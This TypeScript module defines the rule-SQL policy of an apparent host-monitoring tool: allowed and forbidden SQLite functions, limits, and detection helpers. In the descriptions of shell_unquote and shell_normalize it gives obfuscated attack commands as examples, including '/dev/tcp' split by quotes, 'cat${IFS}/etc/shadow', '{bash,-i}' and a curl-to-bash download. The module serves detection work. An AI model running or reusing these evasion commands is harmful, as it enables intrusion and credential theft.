// The rule-SQL policy as data: which functions a rule may call and why, which it may never call and why,
// the functions DaemonEye itself registers in every rule database, the size limits, the tables that are
// never readable, and the SQLite syntax the validator's parser cannot read (with the workaround). The
// validator (sql-validator.ts) enforces it, the rule worker registers its user functions, and
// docs/rules-sql.md is generated from it (src/docs/rules-sql-doc.ts), so the three cannot disagree.
//
// To add a function DaemonEye implements (a user function): add one entry to USER_FUNCTIONS. The
// validator allows it, every rule database registers it, and `npm run docs` documents it. To allow one of
// SQLite's built-in functions: add its name to a group of ALLOWED_FUNCTION_GROUPS, with why it is safe.
import {cidrMatcher, parseCidr} from './cidr.js';
import {regexCache} from './regex.js';
import {casefold} from './sigma/casefold.js';
import {invisibleCharacters, shellNormalize, shellUnquote, visibleText} from './shell-text.js';
import {trimEndChar} from '../util/text.js';
import type {Token} from './sql-lexer.js';

/** Allowed built-in SQLite functions, grouped by what they are for (one row each in docs/rules-sql.md). */
export interface AllowedFunctionGroup {
  /** Lower-case function names. */
  readonly names: readonly string[];
  /** Operators and keywords of the same family, shown beside the names in the docs (not checked: they are syntax, not calls). */
  readonly syntax?: readonly string[];
  /** Why these are safe, or what rules use them for. */
  readonly why: string;
}

/** A function DaemonEye implements and registers in every rule database (sql.js `create_function`). */
export interface UserFunction {
  /** Lower-case name, as called from SQL. */
  readonly name: string;
  /** How it is called, for the docs: `regexp(pattern, text)`. */
  readonly usage: string;
  /** What it does and its edge cases, for the docs. */
  readonly description: string;
  /**
   * A fresh implementation for one database (so per-database caches are not shared). Arguments are
   * SQLite values (number, string, Uint8Array or null); the result must be one too. A thrown error
   * becomes the calling rule's error.
   */
  readonly create: () => (...args: unknown[]) => number | string | Uint8Array | null;
  /**
   * The function returns a number or NULL and is deterministic: a text argument of several kilobytes (an
   * attacker's argv) is decoded once per rule database and reused, with the result for the same other
   * arguments (udfs.ts).
   */
  readonly longText?: boolean;
}

/** A function no configuration can allow, and why. */
export interface ForbiddenFunction {
  readonly name: string;
  readonly why: string;
}

/** SQLite syntax the validator's parser (node-sql-parser) cannot read, refused as `unsupported_syntax`. */
export interface UnsupportedSyntax {
  /** The construct, as the refusal message names it. */
  readonly construct: string;
  /** The construct as the docs show it (Markdown). */
  readonly docsConstruct: string;
  /** What to write instead (in the refusal's `workaround`). */
  readonly workaround: string;
  /** What to write instead, as the docs show it (Markdown). */
  readonly docsWorkaround: string;
  /** Whether the construct starts at token `index` of the statement. */
  readonly test: (tokens: readonly Token[], index: number) => boolean;
}

/** Size limits, checked before and while the query is parsed. */
export interface SqlLimits {
  /** Bytes of SQL (UTF-8). */
  readonly maxLength: number;
  /** Parenthesis nesting depth, measured by the lexer before the recursive parser runs. */
  readonly maxDepth: number;
  /** Joins in one SELECT (FROM items minus one). */
  readonly maxJoins: number;
}

/** A table-valued function a rule may read in FROM, with its output columns. */
export interface TableFunction {
  readonly name: string;
  readonly columns: readonly string[];
  readonly why: string;
}

/** Everything the validator's verdicts depend on besides its code and the tables it knows. */
export interface SqlPolicy {
  readonly allowedFunctions: readonly AllowedFunctionGroup[];
  readonly userFunctions: readonly UserFunction[];
  readonly forbiddenFunctions: readonly ForbiddenFunction[];
  readonly tableFunctions: readonly TableFunction[];
  readonly limits: SqlLimits;
  /** Table-name patterns that are refused as `forbidden_table` (engine internals). */
  readonly forbiddenTables: readonly RegExp[];
  readonly unsupportedSyntax: readonly UnsupportedSyntax[];
}

/**
 * The reference API's example allow-list (docs/api.md, SqlValidator): aggregates, string basics and
 * time formatting. `new SqlValidator().withAllowedFunctions([...REFERENCE_API_FUNCTIONS])` narrows a
 * validator to exactly these.
 */
export const REFERENCE_API_FUNCTIONS = ['count', 'sum', 'avg', 'min', 'max', 'length', 'substr', 'upper', 'lower', 'datetime', 'strftime'] as const;

export const ALLOWED_FUNCTION_GROUPS: readonly AllowedFunctionGroup[] = [
  {names: [...REFERENCE_API_FUNCTIONS], why: 'aggregates, string basics and time formatting (the reference API allow-list, docs/api.md)'},
  {names: ['total', 'group_concat'], why: 'aggregates; output bounded by the rows'},
  {names: ['coalesce', 'ifnull', 'nullif', 'iif'], syntax: ['CASE', 'CAST'], why: 'null handling and branching'},
  {
    names: ['instr', 'trim', 'ltrim', 'rtrim', 'replace', 'substring', 'like', 'glob'],
    syntax: ['LIKE', 'GLOB', 'REGEXP'],
    why: "string matching; output at most the input's size (nesting is bounded)",
  },
  {names: ['abs', 'round', 'hex', 'typeof'], why: 'numbers and types'},
  {names: ['date', 'time', 'julianday', 'unixepoch'], why: "time arithmetic (timestamps are epoch ms: `datetime(start_time / 1000, 'unixepoch')`)"},
  {names: ['json_extract', 'json_array_length', 'json_type', 'json_valid'], why: '`command_line` and `platform_data` are JSON'},
  {
    names: ['row_number', 'rank', 'dense_rank', 'lag', 'lead', 'first_value', 'last_value'],
    why: 'window functions (with `PARTITION BY`, see "Syntax the validator cannot read")',
  },
];

const pathOrNull = (path: unknown): string | null => (path === null || path === undefined ? null : trimEndChar(String(path), '/'));

export const USER_FUNCTIONS: readonly UserFunction[] = [
  {
    name: 'regexp',
    longText: true,
    usage: '`regexp(pattern, text)` / `text REGEXP pattern`',
    description:
      'a regular expression in RE2 syntax, matched in time linear in the text (see "Regular expressions" below), 1 on a match anywhere in the text, 0 otherwise, NULL when either side is NULL. SQLite has the `REGEXP` operator but no implementation.',
    create: () => {
      const compiled = regexCache();
      return (pattern, text) => {
        if (pattern === null || text === null || pattern === undefined || text === undefined) return null;
        // A bad pattern is the rule author's error: it surfaces as this rule's error, not a crash.
        return compiled(String(pattern)).test(String(text)) ? 1 : 0;
      };
    },
  },
  {
    name: 'regexp_flags',
    longText: true,
    usage: '`regexp_flags(pattern, flags, text)`',
    description:
      "`regexp` with flags, any of `i` (case-insensitive, Unicode simple case folding), `m` (`^` and `$` at `\\n`), `s` (`.` matches `\\n` too); other flags are an error (`g` and `y` would make matching stateful across rows). What Sigma's `re|i`, `re|m` and `re|s` compile to (docs/sigma.md).",
    create: () => {
      const compiled = regexCache();
      return (pattern, flags, text) => {
        if (pattern === null || text === null || pattern === undefined || text === undefined) return null;
        const flagText = flags === null || flags === undefined ? '' : String(flags);
        return compiled(String(pattern), flagText).test(String(text)) ? 1 : 0;
      };
    },
  },
  {
    name: 'casefold',
    usage: '`casefold(text)`',
    description:
      "case folding of every script, one code point for one (`casefold('ÉTÉ') = 'été'`), where SQLite's `lower()` and `LIKE` fold ASCII only; a non-ASCII character never folds to an ASCII one. What Sigma's case-insensitive matching compiles to (docs/sigma.md).",
    create: () => (text) => (text === null || text === undefined ? null : casefold(String(text))),
  },
  {
    name: 'cidr_match',
    usage: '`cidr_match(network, address)`',
    description:
      "1 when the IP address is in the network given in CIDR notation (`cidr_match('10.0.0.0/8', remote_address)`; IPv4 or IPv6; an IPv4-mapped IPv6 address `::ffff:a.b.c.d` is in the IPv4 networks its IPv4 address is in), 0 when it is not or the text is no IP address, NULL when either side is NULL; a network that is not one (`10.0.0.1/8` has host bits set) is the rule's error. What Sigma's `cidr` modifier compiles to (docs/sigma.md).",
    create: () => {
      const networks = new Map<string, (address: string) => boolean>();
      return (network, address) => {
        if (network === null || address === null || network === undefined || address === undefined) return null;
        const text = String(network);
        let matcher = networks.get(text);
        if (matcher === undefined) {
          const parsed = parseCidr(text);
          if (typeof parsed === 'string') throw new Error(`cidr_match: ${parsed}`);
          matcher = cidrMatcher(parsed);
          if (networks.size < 1024) networks.set(text, matcher);
        }
        return matcher(String(address)) ? 1 : 0;
      };
    },
  },
  {
    name: 'visible_text',
    usage: '`visible_text(text)`',
    description:
      'what a terminal shows of a text: without control characters (C0 with tab and line feed, DEL, C1), whole escape sequences (`ESC [ 0 m` and the other CSI, OSC up to BEL), zero-width, bidirectional and other invisible format characters, fillers, variation selectors and invalid bytes (`visible_text(name)` for `\\x1b[0m[kworker/0:2]` is `[kworker/0:2]`); reads the stored form (docs/scan.md, a `\\x1b` is ESC) and returns plain text; NULL stays NULL. Linear in the text. For comparing names an attacker can pad with what nobody sees.',
    create: () => (text) => (text === null || text === undefined ? null : visibleText(String(text))),
  },
  {
    name: 'invisible_characters',
    usage: '`invisible_characters(text)`',
    description:
      'how many pieces of the text a terminal does not show, as `visible_text` removes them (an escape sequence counts once; invalid bytes, which a terminal draws, do not count): 0 for an ordinary name, NULL for NULL. Linear in the text.',
    create: () => (text) => (text === null || text === undefined ? null : invisibleCharacters(String(text))),
  },
  {
    name: 'shell_unquote',
    usage: '`shell_unquote(text)`',
    description:
      "the text with shell quoting removed as bash removes it, so literals split by quotes read whole: `shell_unquote('/dev/t\"\"cp')` is `/dev/tcp`, and so are `/dev/t''cp`, `/dev/\\tcp` and `$'\\x2fdev\\x2ftcp'`; `'…'` keeps its content, `\"…\"` keeps it but for a backslash before a dollar, backquote, double quote or backslash, `$'…'` decodes ANSI-C escapes, an unquoted backslash quotes the next character, a comment keeps its quotes, `$(…)` inside `\"…\"` is read afresh, a quoted phrase that starts a word and holds a blank keeps one quote in front (it is one argument: `grep 'nc -e'` reads `grep 'nc -e`); expansions (`$IFS`, `${x}`, `$@`) and brace expansion stay as written (`shell_normalize` undoes them). A JSON array of strings (`shell_unquote(command_line)`) is unquoted one argument at a time, joined with spaces as `cmdline` is, so a quote in one argument cannot change how another reads. Reads the stored form, returns plain text, NULL stays NULL. Linear in the text.",
    create: () => (text) => (text === null || text === undefined ? null : shellUnquote(String(text))),
  },
  {
    name: 'shell_normalize',
    usage: '`shell_normalize(text)`',
    description:
      "the text as the command bash would run when the shell has no arguments and a variable slipped into a word is unset: `shell_unquote`'s quote removal, and the expansions used to split or space out words undone in the same pass. `$IFS`, `${IFS}` and `${IFS%??}`-style forms are one blank (`cat${IFS}/etc/shadow` is `cat /etc/shadow`); `$1`–`$9`, `$@`, `$*` (braced too) and empty substitutions (`$()`, two backquotes) are nothing (`c$@url`, `cu$()rl` are `curl`); another plain variable (`$u`, `${x}`) is nothing when a letter or digit follows it in the word (`n${x}c` is `nc`, `/dev/${x}tcp` is `/dev/tcp`) and stays as written otherwise (`cp $HOME/x $BACKUP/` is unchanged: an admin's variable stands for a whole word or a path's start); a brace list with a comma that starts a word is its elements separated by blanks (`{bash,-i}` is `bash -i`, `{curl,-fsSL,http://x/a.sh}|bash` is `curl -fsSL http://x/a.sh|bash`; a suffix after the `}` follows the last element once). Not undone: `$0`, `$$`, `$?`, `${x:-word}` and other forms with an operator, sequences `{1..5}`, lists inside a word, variables set earlier in the text, aliases, functions, `eval` of a built string. A JSON array is read one argument at a time, as `shell_unquote` does. Reads the stored form, returns plain text never longer than the input, NULL stays NULL. Linear in the text. What the built-in shell-text rules read beside the text as written (docs/detection-limits.md).",
    create: () => (text) => (text === null || text === undefined ? null : shellNormalize(String(text))),
  },
  {
    name: 'basename',
    usage: '`basename(path)`',
    description: "the last component of a path: `basename('/usr/bin/x') = 'x'` (trailing slashes ignored, NULL stays NULL)",
    create: () => (path) => {
      const text = pathOrNull(path);
      return text === null ? null : text.slice(text.lastIndexOf('/') + 1);
    },
  },
  {
    name: 'dirname',
    usage: '`dirname(path)`',
    description: "the directory of a path: `dirname('/usr/bin/x') = '/usr/bin'`, `dirname('/x') = '/'`, `dirname('x') = '.'`",
    create: () => (path) => {
      const text = pathOrNull(path);
      if (text === null) return null;
      const slash = text.lastIndexOf('/');
      if (slash < 0) return '.';
      return slash === 0 ? '/' : text.slice(0, slash);
    },
  },
];

export const FORBIDDEN_FUNCTION_LIST: readonly ForbiddenFunction[] = [
  {name: 'load_extension', why: 'loads native code'},
  {name: 'readfile', why: 'reads files'},
  {name: 'writefile', why: 'writes files'},
  {name: 'edit', why: 'starts an editor'},
  {name: 'fts3_tokenizer', why: 'can register native callbacks'},
  {name: 'randomblob', why: 'can allocate huge blobs'},
  {name: 'zeroblob', why: 'can allocate huge blobs'},
  {name: 'printf', why: 'a width argument can allocate huge strings'},
  {name: 'format', why: 'a width argument can allocate huge strings'},
  {name: 'char', why: 'not needed by rules'},
  {name: 'sqlite_compileoption_get', why: 'exposes engine internals'},
  {name: 'sqlite_compileoption_used', why: 'exposes engine internals'},
  {name: 'sqlite_offset', why: 'exposes engine internals'},
];

const word = (tokens: readonly Token[], index: number, ...values: string[]): boolean => {
  const token = tokens[index];
  return token !== undefined && token.kind === 'word' && values.includes(token.upper);
};
const punct = (tokens: readonly Token[], index: number, value: string): boolean => tokens[index]?.kind === 'punct' && tokens[index]?.text === value;

export const UNSUPPORTED_SYNTAX: readonly UnsupportedSyntax[] = [
  {
    construct: 'OVER () without PARTITION BY',
    docsConstruct: '`OVER ()` / `OVER (ORDER BY …)` without `PARTITION BY`',
    workaround: 'add a constant partition: OVER (PARTITION BY 1 ORDER BY …)',
    docsWorkaround: '`OVER (PARTITION BY 1 ORDER BY …)`',
    test: (t, i) => word(t, i, 'OVER') && punct(t, i + 1, '(') && !word(t, i + 2, 'PARTITION'),
  },
  {
    construct: 'window frames (ROWS/RANGE/GROUPS …)',
    docsConstruct: 'window frames `ROWS` / `RANGE` / `GROUPS BETWEEN …`',
    workaround: 'drop the frame clause, or compute the value with a correlated subquery',
    docsWorkaround: 'drop the frame, or compute the value with a correlated subquery',
    test: (t, i) => word(t, i, 'ROWS', 'RANGE', 'GROUPS') && word(t, i + 1, 'BETWEEN', 'UNBOUNDED', 'CURRENT'),
  },
  {
    construct: 'NOT GLOB',
    docsConstruct: "`x NOT GLOB 'p'`",
    workaround: "write NOT (x GLOB '…')",
    docsWorkaround: "`NOT (x GLOB 'p')`",
    test: (t, i) => word(t, i, 'NOT') && word(t, i + 1, 'GLOB'),
  },
  {
    construct: 'INTERSECT / EXCEPT',
    docsConstruct: '`INTERSECT` / `EXCEPT`',
    workaround: 'use WHERE … IN (SELECT …) for INTERSECT and WHERE … NOT IN (SELECT …) for EXCEPT',
    docsWorkaround: '`WHERE … IN (SELECT …)` / `WHERE … NOT IN (SELECT …)`',
    test: (t, i) => word(t, i, 'INTERSECT', 'EXCEPT'),
  },
  {
    construct: 'FILTER (WHERE …)',
    docsConstruct: '`agg(x) FILTER (WHERE c)`',
    workaround: 'move the condition into the aggregate: sum(iif(cond, 1, 0)) or count(CASE WHEN cond THEN 1 END)',
    docsWorkaround: '`sum(iif(c, x, 0))`, `count(CASE WHEN c THEN 1 END)`',
    test: (t, i) => word(t, i, 'FILTER') && punct(t, i + 1, '('),
  },
  {
    construct: 'NULLS FIRST / NULLS LAST',
    docsConstruct: '`ORDER BY x NULLS FIRST` / `NULLS LAST`',
    workaround: 'order by (x IS NULL) first: ORDER BY x IS NULL, x',
    docsWorkaround: '`ORDER BY x IS NULL, x` (nulls last) or `ORDER BY x IS NOT NULL, x` (nulls first)',
    test: (t, i) => word(t, i, 'NULLS') && word(t, i + 1, 'FIRST', 'LAST'),
  },
  {
    construct: 'LIKE … ESCAPE',
    docsConstruct: '`LIKE … ESCAPE …`',
    workaround: "use instr(x, 'literal') > 0 or GLOB with [_] / [%] classes",
    docsWorkaround: "refused only where the parser fails on it; otherwise `instr(x, 'literal') > 0`, or `GLOB` with `[_]`/`[%]` classes",
    test: (t, i) => word(t, i, 'ESCAPE'),
  },
];

/** The policy every validator starts from. */
export const SQL_POLICY: SqlPolicy = {
  allowedFunctions: ALLOWED_FUNCTION_GROUPS,
  userFunctions: USER_FUNCTIONS,
  forbiddenFunctions: FORBIDDEN_FUNCTION_LIST,
  tableFunctions: [{name: 'json_each', columns: ['key', 'value', 'type', 'atom', 'id', 'parent', 'fullkey', 'path'], why: 'the elements of a JSON column'}],
  limits: {maxLength: 64 * 1024, maxDepth: 64, maxJoins: 8},
  forbiddenTables: [/^sqlite_/, /^pragma_/],
  unsupportedSyntax: UNSUPPORTED_SYNTAX,
};

/** Every function name the policy allows: the groups' names and the user functions'. */
export function allowedFunctionNames(policy: SqlPolicy = SQL_POLICY): string[] {
  return [...policy.allowedFunctions.flatMap((group) => group.names), ...policy.userFunctions.map((udf) => udf.name)];
}

/**
 * The policy as plain JSON (functions reduced to their names and reasons, patterns to their source), for
 * the verdict fingerprint: two policies with one description give the same verdicts.
 */
export function describePolicy(policy: SqlPolicy): unknown {
  return {
    allowedFunctions: policy.allowedFunctions.map((group) => group.names),
    userFunctions: policy.userFunctions.map((udf) => udf.name),
    forbiddenFunctions: policy.forbiddenFunctions.map((f) => [f.name, f.why]),
    tableFunctions: policy.tableFunctions.map((f) => [f.name, f.columns]),
    limits: policy.limits,
    forbiddenTables: policy.forbiddenTables.map((pattern) => pattern.source),
    // The built-in checks are code of this module, which the validator's build-time code fingerprint covers;
    // their text is never hashed at run time (a bundler reprints it). Only a caller's own check is.
    unsupportedSyntax: policy.unsupportedSyntax.map((s) => [
      s.construct,
      s.workaround,
      SQL_POLICY.unsupportedSyntax.includes(s) ? 'built-in' : s.test.toString(),
    ]),
  };
}
